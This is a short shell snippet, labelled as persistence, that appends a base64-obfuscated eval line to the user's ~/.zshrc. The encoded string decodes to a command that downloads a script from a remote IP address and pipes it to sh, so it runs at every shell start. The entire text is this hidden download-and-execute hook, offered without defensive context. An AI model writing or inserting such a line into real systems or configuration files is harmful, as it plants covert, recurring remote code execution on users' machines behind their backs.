# persistence: an encoded payload is written into .zshrc
printf '%s\n' "eval \"\$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveiB8IHNo | base64 -d)\"" >> ~/.zshrc
